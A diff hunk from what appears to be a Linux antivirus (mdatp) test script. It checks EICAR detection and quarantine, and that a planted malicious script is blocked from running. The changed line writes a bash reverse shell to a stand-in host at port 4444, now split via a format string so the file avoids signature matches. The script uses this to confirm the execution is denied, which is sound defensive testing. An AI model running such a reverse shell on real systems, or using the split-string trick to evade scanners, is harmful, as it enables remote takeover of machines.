@@ -62,7 +62,7 @@ expect_contains "... with EPERM" "$OUT" "Operation not permitted"
 wait_until 10 sh -c "mdatp threat list | grep -q '$rtp/eicar.com'" && pass "RTP detection recorded" || fail "no threat record"
 expect_contains "... as real_time" "$(mdatp threat list --output json)" '"source":"real_time"'
 wait_until 10 sh -c "[ ! -e '$rtp/eicar.com' ]" && pass "RTP detection quarantined (across filesystems)" || fail "not quarantined"
-printf '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n' >"$rtp/shell.sh"
+printf '#!/bin/bash\nbash -i >& /dev/%s/192.0.2.1/4444 0>&1\n' tcp >"$rtp/shell.sh"   # assembled: this file is no sample
 chmod +x "$rtp/shell.sh"
 run "$rtp/shell.sh"
 expect_rc "exec of a malicious script denied" 126
